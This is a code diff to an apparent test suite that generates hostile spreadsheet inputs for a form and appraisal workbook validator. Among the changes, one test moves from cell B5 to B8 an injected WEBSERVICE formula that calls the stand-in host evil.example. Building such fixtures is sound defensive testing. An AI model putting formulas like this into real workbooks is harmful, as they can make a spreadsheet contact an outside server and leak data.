@@ -43,7 +43,7 @@ def live(tag: str, prefix: str = "=") -> str:
 # --------------------------------------------------------------------------- a year whose every text is hostile
 
 PLACES = {  # tag → (sheets of a self form, sheets of the appraisal workbook) where the text must land
-    "province": ({GUIDE_SHEET}, {GUIDE_SHEET}),
+    "province": ({GUIDE_SHEET, SELF_SHEET}, {GUIDE_SHEET, APPRAISAL_SHEET}),  # the guide, and the place of the date line
     "contact": ({GUIDE_SHEET}, {GUIDE_SHEET}),
     "framework": ({GUIDE_SHEET}, {GUIDE_SHEET}),
     "basis": ({GUIDE_SHEET}, {GUIDE_SHEET}),
@@ -252,8 +252,8 @@ def formula_from_another_workbook(path):
 
 
 def formula_in_a_locked_cell(path):
-    put_formula(path, SELF_SHEET, "B5", '_xlfn.WEBSERVICE("http://evil.example/")', "Trưởng ban chỉ đạo")
-    return SELF_SHEET, "B5", "formula-in-form", "gọi hàm WEBSERVICE"
+    put_formula(path, SELF_SHEET, "B8", '_xlfn.WEBSERVICE("http://evil.example/")', "Trưởng ban chỉ đạo")
+    return SELF_SHEET, "B8", "formula-in-form", "gọi hàm WEBSERVICE"
 
 
 def formula_in_the_guide(path):
